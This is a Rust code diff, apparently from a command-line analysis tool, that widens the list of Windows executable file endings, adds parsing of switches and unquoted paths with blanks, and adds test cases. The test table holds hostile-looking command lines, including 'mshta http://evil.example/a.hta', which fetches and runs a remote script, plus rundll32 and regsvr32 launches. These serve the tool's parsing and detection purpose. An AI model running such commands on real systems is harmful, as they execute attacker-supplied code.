@@ -27,8 +27,10 @@ pub(crate) fn words(command: &str) -> Vec<String> {
 }
 
 /// Endings of files that Windows runs; an unquoted path with blanks ends behind one of them.
-const RUNS: [&str; 14] =
-    [".exe", ".cmd", ".bat", ".com", ".ps1", ".vbs", ".js", ".scr", ".hta", ".wsf", ".dll", ".sys", ".lnk", ".pif"];
+const RUNS: [&str; 22] = [
+    ".exe", ".cmd", ".bat", ".com", ".ps1", ".vbs", ".js", ".scr", ".hta", ".wsf", ".dll", ".sys", ".lnk", ".pif",
+    ".chm", ".sct", ".vbe", ".jse", ".msi", ".jar", ".py", ".cpl",
+];
 
 /// The program of a command line and what follows it.
 pub(crate) fn program(command: &str) -> (&str, &str) {
@@ -86,8 +88,24 @@ fn code(text: &str) -> Script {
     Script { file: String::new(), code: text.trim().to_owned() }
 }
 
+/// The first word that is no switch; an unquoted path with blanks is one word if its ending says so.
 fn first_file(rest: &str) -> Option<Script> {
-    words(rest).iter().find(|w| !w.starts_with(['-']) && !w.starts_with("//")).map(|w| file(w))
+    let whole = program(rest).0;
+    if is_file_name(whole) && !is_switch(whole) {
+        return Some(file(whole));
+    }
+    words(rest).iter().find(|w| !is_switch(w)).map(|w| file(w))
+}
+
+/// `-x`, `//B`, `/E:vbs`, `/s`; not a path of Linux.
+fn is_switch(word: &str) -> bool {
+    let slash = word.starts_with('/') && (word.contains(':') || word.len() <= 3);
+    word.starts_with('-') || word.starts_with("//") || slash
+}
+
+/// Whether a word looks like a file's name: with a folder, or with an ending that Windows runs.
+pub(crate) fn is_file_name(word: &str) -> bool {
+    path::has_folder(word) || RUNS.iter().any(|e| word.to_ascii_lowercase().ends_with(e))
 }
 
 fn after(words: &[String], switches: &[&str]) -> Option<String> {
@@ -259,6 +277,8 @@ mod tests {
             ("wscript.exe //B \"C:\\a b.vbs\"", "C:\\a b.vbs"),
             ("rundll32.exe C:\\a.dll,Start 1", "C:\\a.dll"),
             ("regsvr32 /s /u C:\\a.dll", "C:\\a.dll"),
+            ("wscript /E:vbs C:\\x.txt", "C:\\x.txt"),
+            ("hh.exe C:\\Desktop\\Fax 1.chm", "C:\\Desktop\\Fax 1.chm"),
             ("bash -x /tmp/a.sh", "/tmp/a.sh"),
             ("python3 /opt/x.py --a", "/opt/x.py"),
             ("mshta http://evil.example/a.hta", "http://evil.example/a.hta"),
